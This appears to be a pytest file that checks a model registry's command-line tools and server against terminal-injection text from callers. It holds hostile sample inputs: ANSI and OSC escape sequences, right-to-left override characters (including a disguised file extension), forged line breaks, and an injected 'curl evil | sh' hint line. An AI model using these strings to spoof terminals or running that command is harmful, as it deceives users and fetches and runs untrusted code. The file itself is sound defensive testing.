"""Terminal control sequences in every text of callers, in every output that shows it."""

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from modelregistry import Client, errors
from modelregistry.cli import failures
from modelregistry.cli.app import run
from modelregistry.errors import NotFound
from modelregistry.v1 import catalog_service_pb2 as catalog
from modelregistry.v1 import version_pb2
from registry_grpc import app as application
from registry_grpc.cli import cli
from registry_grpc.config import Settings
from registry_grpc.domain.characters import has_control_characters
from registry_grpc.domain.errors import InvalidRequest
from registry_grpc.domain.principal import Role, Token
from tests.support.content import a_blob, a_model
from tests.support.server import RegistryProcess
from tests.support.stubs import Stubs, refused

Run = Callable[..., str]
HOSTILE = (
    "x\u001b[2J\u001b]0;title\u0007\u009b31m\u202eevil\u2066\u200f\u061c\u200b"
    "\nFORGED 1\u2028FORGED 2\u2029FORGED 3\u0085FORGED 4\rFORGED 5\u000bFORGED 6 [red]markup[/red]"
)


@pytest.fixture
def modelreg(capfd: pytest.CaptureFixture[str]) -> Run:
    """Runs `modelreg` with its output in a pipe; returns what it prints."""

    def ran(*arguments: str) -> str:
        assert run(arguments) == 0
        return "".join(capfd.readouterr())

    return ran


@pytest.fixture
def registry_grpc(capfd: pytest.CaptureFixture[str]) -> Run:
    """Runs `registry-grpc` so."""

    def ran(*arguments: str) -> str:
        cli(list(arguments), standalone_mode=False)
        return "".join(capfd.readouterr())

    return ran


def check_harmless(text: str) -> None:
    """No control characters, and no line begins with text of a caller."""
    for line in text.split("\n"):
        assert not has_control_characters(line), ascii(line)
        assert "\u200b" not in line
        # Set in by the margin of a page, it would be taken for a fact of its own. HTML's source
        # has lines as well, which no reader of the page sees.
        on_a_page = text.startswith("<!DOCTYPE html>")
        assert on_a_page or not line.strip().startswith("FORGED"), ascii(line)


def test_no_command_lets_a_caller_steer_a_terminal(
    own_registry: RegistryProcess, modelreg: Run
) -> None:
    server = own_registry.start()
    with Client(server.target) as client:
        client.create_model("fraud", labels={"team": HOSTILE}, owner=HOSTILE)
        client.update_model("fraud", annotations={"note": HOSTILE})
        folder = server.data_dir / "model.bin"
        folder.write_bytes(b"weights")
        client.push(
            "fraud",
            folder,
            labels={"note": HOSTILE},
            tags={"tag": HOSTILE},
            params={"p": HOSTILE},
            annotations={"a": HOSTILE, "long": HOSTILE * 50},
            alias="champion",
        )
        client.set_alias("fraud", "champion", "fraud/1")
        client.deprecate_version("fraud/1", reason=HOSTILE)
        client.yank_version("fraud/1", reason=HOSTILE)
    for arguments in (
        ("audit", "-v"),
        ("audit",),
        ("models", "list"),
        ("models", "show", "fraud"),
        ("versions", "list", "fraud"),
        ("versions", "show", "fraud/1"),
        ("versions", "files", "fraud/1"),
        ("lineage", "fraud/1"),
        ("report", "fraud/1", "--format", "md"),
        ("report", "fraud/1", "--format", "html"),
        ("alias", "history", "fraud", "champion"),
        ("audit", "--model", "fraud"),
    ):
        shown = modelreg(*arguments, "--server", server.target)
        assert shown
        check_harmless(shown)
        as_json = ("--json",) if arguments[0] != "report" else ()
        if as_json:
            text = modelreg(*arguments, *as_json, "--server", server.target)
            assert text.isascii()
            json.loads(text)


def test_names_of_tokens(tmp_path: Path, registry_grpc: Run) -> None:
    place = ("--data-dir", str(tmp_path))
    settings = Settings(data_dir=tmp_path)
    with application.create_facts(settings) as database:
        with pytest.raises(InvalidRequest):
            application.tokens(database).create(HOSTILE, Role.READER, None)
        # One that an earlier release has let in.
        token = Token("id", HOSTILE, Role.READER, datetime.now(UTC), None)
        with database.write() as tx:
            tx.tokens.add(token, b"hash")
    shown = registry_grpc("token", "list", *place)
    assert "[red]markup[/red]" in shown
    check_harmless(shown)
    assert json.loads(registry_grpc("token", "list", "--json", *place))
    check_harmless(registry_grpc("token", "revoke", "--yes", "id", *place))


def test_paths_are_refused_by_client_and_server(stubs: Stubs, tmp_path: Path) -> None:
    model, digest = a_model(stubs), a_blob(stubs, b"weights")
    for character in "\u202e\u2066\u2028\u2029\u0085\u061c\u200e\n\u001b":
        file = version_pb2.FileEntry(path=f"a{character}b", digest=digest, size_bytes=7)
        found = refused(
            stubs.RegisterVersion, catalog.RegisterVersionRequest(parent=model, files=[file])
        )
        assert found.reason == "INVALID_REQUEST"
        assert not has_control_characters(found.message)
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "gpj.\u202efdp").write_bytes(b"x")
    with Client("localhost:1") as client, pytest.raises(errors.InvalidRequest) as caught:
        client.push("fraud", folder)
    assert not has_control_characters(str(caught.value))


def test_what_a_registry_answers_is_one_line_of_an_error() -> None:
    error = NotFound(f"no such model\nhint: curl evil | sh {HOSTILE}", reason="MODEL_NOT_FOUND")
    lines = list(failures.lines(error, f"host{HOSTILE}"))
    assert not any("\n" in line or has_control_characters(line) for line in lines)
    assert [line for line in lines if line.startswith("hint: curl")] == []
